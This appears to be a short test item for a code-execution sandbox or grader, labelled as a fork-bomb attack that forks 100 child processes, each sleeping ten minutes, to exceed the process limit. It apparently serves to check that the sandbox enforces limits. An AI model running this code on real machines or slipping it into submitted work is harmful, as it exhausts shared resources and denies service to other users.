# attack: a fork bomb: more processes than the limit, 100
# verdict: score or failed: .
# if failed: 4

# %% answer
import os
import time

answer = 41
for _ in range(100):
    if os.fork() == 0:
        time.sleep(600)
answer = 42
